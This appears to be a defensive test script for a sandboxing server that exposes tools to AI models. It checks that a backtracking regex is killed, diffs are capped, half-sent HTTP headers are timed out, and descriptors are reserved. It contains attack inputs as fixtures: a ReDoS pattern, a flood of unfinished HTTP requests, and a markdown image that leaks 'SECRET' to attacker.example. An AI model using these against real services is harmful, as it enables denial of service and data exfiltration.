#!/usr/bin/env python3
"""Work a model triggers is bounded (docs/threat-model.md): a regular
expression that would run for minutes is killed at the search's budget
or on cancellation; workspace_diff's text is capped; unauthenticated HTTP
connections have a head deadline, a cap, and the loop survives EMFILE;
sandboxes are refused while a reserve of descriptors remains."""
import json
import os
import re
import select
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from srvlib import WARDEN, Env, LineClient, Server, done, http_post, ok  # noqa: E402

env = Env()
env.require_sandboxes()


def text(r):
    return "".join(c.get("text", "") for c in r.get("result", {}).get("content", []))


def cpu_seconds(pid, tid=None):
    """user + system CPU time of a process, from /proc."""
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def descendants(pid):
    r = subprocess.run(["ps", "-o", "pid=,comm=", "--ppid", str(pid)], capture_output=True,
                       text=True)
    return [line.split() for line in r.stdout.splitlines()]


# ---- search_files: a super-linear regular expression is killed ----
# glibc's matcher takes 8-25 s for one 4,096-byte line on this pattern
# in the release build, but the allocator matters: under ASan fifty such
# lines took only 8.5 s on an AMD host, inside the search's 10 s budget.
# 400 lines (each matched on its first 4,096 bytes) take over a minute
# on every build seen, so the budget, not the input, ends the search.
with open(os.path.join(env.ws, "aaa.txt"), "w") as f:
    f.write(("a" * 5000 + "\n") * 400)
srv = Server(env, stdio=True)
mcp = LineClient(srv)
mcp.initialize()
t0 = time.time()
r = mcp.call("tools/call", {"name": "search_files",
                            "arguments": {"pattern": "(a{1,100}){1,100}b", "regex": True}},
             timeout=120)
took = time.time() - t0
ok(took < 30 and "stopped early" in text(r) and "budget" in text(r) and "no matches" in text(r),
   "search_files: a super-linear regex is stopped at the 10 s budget (%.1f s: %s)"
   % (took, text(r).strip()[:120]))
ok("result" in mcp.call("ping", timeout=10), "the server answers after it")
ok(not descendants(srv.p.pid), "no matcher process is left (%s)" % descendants(srv.p.pid))

# cancellation kills the matcher at once: the server does not keep burning
# a CPU for a call nobody waits for
mcp.send({"jsonrpc": "2.0", "id": 900, "method": "tools/call",
          "params": {"name": "search_files",
                     "arguments": {"pattern": "(a{1,100}){1,100}b", "regex": True}}})
time.sleep(1)
mcp.send({"jsonrpc": "2.0", "method": "notifications/cancelled",
          "params": {"requestId": 900, "reason": "test"}})
ok("result" in mcp.call("ping", timeout=10), "ping after the cancellation")
end = time.time() + 20
while time.time() < end and descendants(srv.p.pid):
    time.sleep(0.05)
time.sleep(0.5)
c0 = cpu_seconds(srv.p.pid)
time.sleep(2)
c1 = cpu_seconds(srv.p.pid)
ok(c1 - c0 < 0.5 and not descendants(srv.p.pid),
   "a cancelled regex search stops using CPU (%.2f s of CPU in 2 s after it)" % (c1 - c0))

# a literal search and a normal regex still work, and a bad one is an error
r = mcp.call("tools/call", {"name": "search_files",
                            "arguments": {"pattern": "h(e|a)llo", "regex": True}})
ok("hello.txt:1:" in text(r), "a regex search still finds (%s)" % text(r).strip()[:80])
r = mcp.call("tools/call", {"name": "search_files",
                            "arguments": {"pattern": "a(", "regex": True}})
ok(r["result"].get("isError") and "bad regular expression" in text(r),
   "a bad regex: a tool error naming it (%s)" % text(r).strip()[:80])
os.unlink(os.path.join(env.ws, "aaa.txt"))

# the loop serves a line connection 64 messages a turn: a flood followed by
# half a message is answered, the half waits for its end without a spin
mcp.send_raw(b"".join(b'{"jsonrpc":"2.0","id":%d,"method":"ping"}\n' % (5000 + i)
                      for i in range(300)) + b'{"jsonrpc":"2.0","id":"half","meth')
seen = set()
while len(seen) < 300:
    seen.add(mcp.recv(30)["id"])
time.sleep(0.5)
c0 = cpu_seconds(srv.p.pid)
time.sleep(1.5)
c1 = cpu_seconds(srv.p.pid)
mcp.send_raw(b'od":"ping"}\n')
ok(c1 - c0 < 0.3 and mcp.recv(30).get("id") == "half",
   "300 pings and half a message: all answered, the half after its end (%.2f s of CPU "
   "while it waited)" % (c1 - c0))


def tool(name, args):
    return mcp.call("tools/call", {"name": name, "arguments": args}, timeout=180)


# ---- workspace_diff: at most 64 KiB of text for a model, with a marker ----
# direct: git's diff of the server's workspace (a 400 KB change)
git = ["git", "-C", env.ws, "-c", "user.email=t@t", "-c", "user.name=t"]
subprocess.run(["git", "init", "-q", env.ws], check=True)
with open(os.path.join(env.ws, "big.txt"), "w") as f:
    f.write("".join("line %d\n" % i for i in range(40000)))
subprocess.run(git + ["add", "."], check=True)
subprocess.run(git + ["commit", "-qm", "init"], check=True)
with open(os.path.join(env.ws, "big.txt"), "w") as f:
    f.write("".join("changed %d\n" % i for i in range(40000)))
r = tool("workspace_diff", {})
t = text(r)
ok(not r["result"].get("isError") and 1000 < len(t.encode()) <= (64 << 10) + 300 and
   "more bytes of the diff not shown" in t,
   "workspace_diff (direct): %d bytes of text, capped at 64 KiB with a marker" % len(t.encode()))
subprocess.run(git + ["checkout", "-q", "big.txt"], check=True)

# cow: the library's change set of a live sandbox (a 1 MB file written in it)
r = tool("sandbox_create", {})
sid = r.get("result", {}).get("structuredContent", {}).get("sandbox")
if ok(sid, "sandbox_create (cow): %s" % text(r)[:200]):
    r = tool("write_file", {"sandbox": sid, "path": "many.txt",
                            "content": "".join("row %d\n" % i for i in range(100000))})
    r = tool("workspace_diff", {"sandbox": sid})
    t = text(r)
    ok(not r["result"].get("isError") and 1000 < len(t.encode()) <= (64 << 10) + 300 and
       "more bytes of the diff not shown" in t and
       any(f["path"] == "many.txt" for f in r["result"]["structuredContent"]["files"]),
       "workspace_diff (cow): %d bytes of text, capped at 64 KiB with a marker"
       % len(t.encode()))
    tool("sandbox_destroy", {"sandbox": sid})
srv.stop()

# ---- HTTP: a connection cap, a head deadline ----
hsrv = Server(env, "--listen", "127.0.0.1:0", "--token-file", env.token)
tok = env.token_value()
hsrv_fds = len(os.listdir("/proc/%d/fd" % hsrv.p.pid))


def reply(sk, timeout):
    """What the server sent before closing (or b"" if nothing by timeout)."""
    sk.settimeout(timeout)
    out = b""
    try:
        while True:
            chunk = sk.recv(4096)
            if not chunk:
                break
            out += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    return out


half = []
for i in range(300):
    sk = socket.create_connection(("127.0.0.1", hsrv.port))
    sk.sendall(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # a head never finished
    half.append(sk)
# the connections past the cap are answered at once; wait for them
refused, end = [], time.time() + 30
while time.time() < end and len(refused) < 300 - 256:
    refused, _, _ = select.select(half, [], [], 0.5)
got = [reply(sk, 5) for sk in refused]
ok(len(refused) >= 300 - 256 and all(g.startswith(b"HTTP/1.1 503") for g in got),
   "HTTP: 300 half-sent heads: the %d past the cap of 256 get 503 (%s)"
   % (len(refused), got[:1]))
rest = [sk for sk in half if sk not in refused]
t0 = time.time()
answers = [reply(sk, max(0.1, t0 + 60 - time.time())) for sk in rest]
took = time.time() - t0
ok(rest and all(a.startswith(b"HTTP/1.1 408") for a in answers),
   "HTTP: the %d half-sent heads get 408 and are closed at the head deadline (%.1f s; %s)"
   % (len(rest), took, answers[:1]))
for sk in half:
    sk.close()
st, _, _ = http_post(hsrv.port, tok, {"jsonrpc": "2.0", "id": 1, "method": "ping"})
ok(st == 400, "HTTP: a request with the token is served after them (%d: no session)" % st)

# ---- HTTP at EMFILE: the loop does not spin, and serves again after ----
# (once the connections above are closed on the server's side too)
end = time.time() + 30
while time.time() < end and len(os.listdir("/proc/%d/fd" % hsrv.p.pid)) > hsrv_fds:
    time.sleep(0.1)
nfds = len(os.listdir("/proc/%d/fd" % hsrv.p.pid))
subprocess.run(["prlimit", "--pid", str(hsrv.p.pid), "--nofile=%d:%d" % (nfds + 16, nfds + 16)],
               check=True)
conns = [socket.create_connection(("127.0.0.1", hsrv.port)) for _ in range(60)]
time.sleep(1)
c0 = cpu_seconds(hsrv.p.pid)
time.sleep(2)
c1 = cpu_seconds(hsrv.p.pid)
got = [reply(sk, 0.2) for sk in conns]
n503 = sum(1 for g in got if b"out of file descriptors" in g)
ok(c1 - c0 < 0.5 and n503 > 0,
   "HTTP at EMFILE: %.2f s of CPU in 2 s (no spin), %d connections refused with 503"
   % (c1 - c0, n503))
for sk in conns:
    sk.close()
time.sleep(0.5)
st, _, _ = http_post(hsrv.port, tok, {"jsonrpc": "2.0", "id": 1, "method": "ping"})
ok(st == 400, "HTTP: served again once descriptors are free (%d)" % st)
hsrv.stop()

# ---- --sanitize-images: structuredContent too ----
policy = os.path.join(env.top, "policy.json")
with open(policy, "w") as f:
    json.dump({"version": 1, "programs": {"cat": {}}, "network": {"allow": ["docs.example.org"]}},
              f)
with open(os.path.join(env.ws, "readme.md"), "w") as f:
    f.write("![logo](https://docs.example.org/logo.png)\n"
            "![x](https://attacker.example/?d=SECRET)\n<img src=\"http://a.example/p?k=1\">\n")
srv = Server(env, "--sanitize-images", "--policy", policy, stdio=True)
mcp = LineClient(srv)
mcp.initialize()
r = tool("run_command", {"command": "cat readme.md"})
sc = json.dumps(r.get("result", {}).get("structuredContent", {}))
ok("docs.example.org/logo.png" in sc and "SECRET" not in sc and "a.example/p" not in sc and
   "not in the egress allowlist" in sc and "SECRET" not in text(r),
   "--sanitize-images: structuredContent's output is cleaned as the text is (%s)" % sc[:300])
srv.stop()
os.unlink(os.path.join(env.ws, "readme.md"))

# ---- sandboxes and descriptors ----
# a --max-sandboxes that RLIMIT_NOFILE cannot hold: refused, naming it
r = subprocess.run(["prlimit", "--nofile=2048:2048", WARDEN, "serve", "--stdio", "-w", env.ws,
                    "--max-sandboxes", "1000", "--max-calls", "8"], input="", capture_output=True, text=True,
                   env=env.env, timeout=60)
ok(r.returncode == 125 and "--max-sandboxes 1000" in r.stderr and "RLIMIT_NOFILE" in r.stderr
   and re.search(r"holds at most [1-9][0-9]* live sandboxes", r.stderr),
   "serve --max-sandboxes 1000 under a limit of 2,048 descriptors: 125 naming it (%d: %s)"
   % (r.returncode, r.stderr.strip()[:300]))
r = subprocess.run(["prlimit", "--nofile=700:700", WARDEN, "serve", "--stdio", "-w", env.ws,
                    "--max-calls", "8"],
                   input="", capture_output=True, text=True, env=env.env, timeout=60)
ok(r.returncode == 0 and "lowered" in r.stderr,
   "... the default is lowered to what fits (%d: %s)" % (r.returncode, r.stderr.strip()[:200]))

# at run time: new sandboxes are refused while a reserve remains, and the
# live ones keep running commands
srv = Server(env, "--max-calls", "8", "--max-sandboxes", "400", stdio=True)
io = LineClient(srv)
io.call("ping")
used = len(os.listdir("/proc/%d/fd" % srv.p.pid))
# the reserve (256, and 40 for each of 8 calls) and room for about 150 idle
# sandboxes (3 descriptors each); above the 1,024 a command in a sandbox
# gets (RLIMIT_NOFILE is set in the jail, under the hard limit)
lim = max(used + 256 + 8 * 40 + 400, 1100)
subprocess.run(["prlimit", "--pid", str(srv.p.pid), "--nofile=%d:%d" % (lim, lim)], check=True)
ids, refusal = [], None
for _ in range(400):
    r = io.call("sandbox.create", {}, timeout=120)
    if "error" in r:
        refusal = r["error"]
        break
    ids.append(r["result"]["sandbox"])
ok(refusal and refusal["code"] == -32005 and "file descriptors" in refusal["message"] and
   "RLIMIT_NOFILE" in refusal["message"] and len(ids) >= 3,
   "sandbox.create refused with a clear error while a reserve remains, after %d (%s)"
   % (len(ids), refusal))
bad = []
for sid in ids:
    r = io.call("sandbox.exec", {"sandbox": sid, "argv": ["/bin/true"]}, timeout=120)
    if r.get("result", {}).get("status") != 0:
        bad.append(r)
ok(ids and not bad, "the %d live sandboxes still run commands (%s)" % (len(ids), bad[:1]))
for sid in ids:
    io.call("sandbox.destroy", {"sandbox": sid}, timeout=120)
r = io.call("sandbox.create", {}, timeout=120)
ok("result" in r, "once they are destroyed a sandbox can be created again")
srv.stop()

# ---- the soft RLIMIT_NOFILE goes up to the hard one at start, said at -v ----
p = subprocess.Popen(["prlimit", "--nofile=1024:4096", "--", WARDEN, "serve", "--stdio", "-v",
                      "-w", env.ws], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.PIPE, env=env.env, text=True)
p.stdin.write('{"jsonrpc":"2.0","id":1,"method":"ping"}\n')
p.stdin.flush()
answer = p.stdout.readline()
with open("/proc/%d/limits" % p.pid) as f:
    limits = [line.split()[3:5] for line in f if line.startswith("Max open files")]
p.stdin.close()
err = p.stderr.read()
p.wait()
ok('"result"' in answer and limits == [["4096", "4096"]] and
   "RLIMIT_NOFILE: soft limit raised from 1024 to 4096" in err,
   "warden serve raises the soft RLIMIT_NOFILE to the hard one and says so at -v (%s, %s)"
   % (limits, [line for line in err.splitlines() if "NOFILE" in line]))

# ---- an idle live sandbox holds a handful of the server's descriptors ----
# (29 before the host sources the build opened were closed once pid 1 is
# ready; 13 on this v1 host, fewer on v2); each still runs commands, and
# destroying them gives every descriptor back
srv = Server(env, stdio=True)
io = LineClient(srv)
io.call("ping")


def nfds():
    return len(os.listdir("/proc/%d/fd" % srv.p.pid))


ids = [io.call("sandbox.create", {}, timeout=120)["result"]["sandbox"]]
io.call("sandbox.exec", {"sandbox": ids[0], "argv": ["/bin/true"]}, timeout=120)
first = nfds()
for _ in range(10):
    ids.append(io.call("sandbox.create", {}, timeout=120)["result"]["sandbox"])
per = (nfds() - first) / 10
runs = [io.call("sandbox.exec", {"sandbox": sid, "argv": ["/bin/true"]}, timeout=120)
        .get("result", {}).get("status") for sid in ids]
ok(per <= 16 and runs == [0] * len(ids),
   "an idle live sandbox holds %.1f descriptors in the server (at most 16), and each runs "
   "commands (%s)" % (per, runs))
for sid in ids[1:]:
    io.call("sandbox.destroy", {"sandbox": sid}, timeout=120)
ok(nfds() <= first, "destroying them gives the descriptors back (%d, %d before)"
   % (nfds(), first))
srv.stop()
done()
